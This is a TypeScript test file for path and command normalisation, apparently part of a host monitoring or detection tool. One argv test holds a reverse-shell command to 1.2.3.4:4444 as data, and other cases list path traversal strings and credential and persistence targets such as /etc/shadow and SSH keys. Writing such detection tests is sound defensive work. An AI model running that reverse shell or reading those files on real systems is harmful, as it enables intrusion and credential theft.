import { describe, expect, it } from 'vitest';
import { accessMode, addressClass, argvShape, generalisePath, lexicalPath, pathSensitivity } from './paths';

describe('generalisePath', () => {
  it.each([
    ['/proc/1234/status', '/proc/<pid>/status'],
    ['/proc/99/task/100/stat', '/proc/<pid>/task/<tid>/stat'],
    ['/proc/self/fd/7', '/proc/self/fd/<n>'],
    ['/home/alice/.cache/x', '~/.cache/x'],
    ['/root/.bashrc', '~/.bashrc'],
    ['/tmp/tmpa8Xk2q/data.json', '/tmp/<tmp>/data.json'],
    ['/tmp/sess_Ab3dE9fG', '/tmp/<tmp>'],
    ['/var/lib/docker/containers/3f2a9c1b7e6d5f4a3b2c1d0e9f8a7b6c/config.json', '/var/lib/docker/containers/<hex>/config.json'],
    ['/run/user/1000/bus', '/run/user/<uid>/bus'],
    ['/var/log/app/2024/request-123456.log', '/var/log/app/<n>/request-<n>.log'],
    ['/sys/fs/cgroup/abc/6f1c2a4e-9b1d-4c3e-8f2a-1b2c3d4e5f60', '/sys/fs/cgroup/abc/<uuid>'],
  ])('%s → %s', (raw, want) => {
    expect(generalisePath(raw)).toBe(want);
    expect(generalisePath(want)).toBe(want); // idempotent
  });

  it('keeps stable names stable', () => {
    expect(generalisePath('/etc/shadow')).toBe('/etc/shadow');
    expect(generalisePath('/usr/lib/x86_64-linux-gnu/libc.so.6')).toBe('/usr/lib/x86_64-linux-gnu/libc.so.6');
    expect(generalisePath('/tmp/build.log')).toBe('/tmp/build.log');
  });
});

describe('lexicalPath', () => {
  it.each([
    ['/etc/../etc/../etc/shadow', '/etc/shadow'],
    ['/etc/./shadow', '/etc/shadow'],
    ['//etc///shadow', '/etc/shadow'],
    ['/var/www/html/../../../etc/passwd', '/etc/passwd'],
    ['/../../etc/shadow', '/etc/shadow'], // '..' above the root stays at the root, as in the kernel
    ['/tmp/x/..', '/tmp'],
    ['/tmp/.', '/tmp'],
    ['/', '/'],
  ])('%s → %s', (given, want) => expect(lexicalPath(given)).toBe(want));

  it('leaves ordinary and relative paths as they are', () => {
    for (const p of ['/etc/shadow', '/home/alice/.bashrc', '/tmp/..hidden/x', '/tmp/.../x', '/usr/lib/', '../etc/shadow', 'shadow', './x', ''])
      expect(lexicalPath(p)).toBe(p);
  });

  it('generalisation and sensitivity see the lexical path', () => {
    expect(generalisePath('/etc/../etc/shadow')).toBe('/etc/shadow');
    expect(generalisePath('/proc/1234/../1234/environ')).toBe('/proc/<pid>/environ');
  });
});

describe('pathSensitivity', () => {
  it('weights credentials, keys and persistence paths', () => {
    expect(pathSensitivity('/etc/shadow').category).toBe('credentials');
    expect(pathSensitivity('/home/bob/.ssh/id_ed25519').mitre).toBe('T1552.004');
    expect(pathSensitivity('/root/.ssh/authorized_keys').category).toBe('persistence');
    expect(pathSensitivity('/etc/cron.d/job').mitre).toBe('T1053.003');
    expect(pathSensitivity('/etc/systemd/system/evil.service').mitre).toBe('T1543.002');
    expect(pathSensitivity('/var/www/index.html')).toEqual({ category: 'none', weight: 1, mitre: null });
  });
});

describe('accessMode / argvShape / addressClass', () => {
  it('decodes open flags', () => {
    expect(accessMode(0)).toBe('read');
    expect(accessMode(1)).toBe('write');
    expect(accessMode(2 | 0o100)).toBe('read-write+create');
    expect(accessMode(1 | 0o1000)).toBe('write+create');
  });

  it('abstracts argv values but keeps options', () => {
    expect(argvShape(['/usr/bin/curl', '-s', 'https://example.com/x', '-o', '/tmp/tmpXy12ab'])).toBe('curl -s <url> -o /tmp/<tmp>');
    expect(argvShape(['sh', '-c', 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'])).toBe('sh -c <arg>');
    expect(argvShape(['kill', '-9', '4242'])).toBe('kill -9 <n>');
  });

  it('classifies addresses', () => {
    expect(addressClass('127.0.0.1', 'INET')).toBe('loopback');
    expect(addressClass('::1', 'INET6')).toBe('loopback');
    expect(addressClass('10.1.2.3', 'INET')).toBe('private');
    expect(addressClass('172.20.0.1', 'INET')).toBe('private');
    expect(addressClass('192.168.1.1', 'INET')).toBe('private');
    expect(addressClass('8.8.8.8', 'INET')).toBe('public');
    expect(addressClass('2001:4860::8888', 'INET6')).toBe('public');
    expect(addressClass('fd00::1', 'INET6')).toBe('private');
    expect(addressClass('0.0.0.0', 'INET')).toBe('any');
    expect(addressClass('/run/x.sock', 'UNIX')).toBe('unix');
  });
});
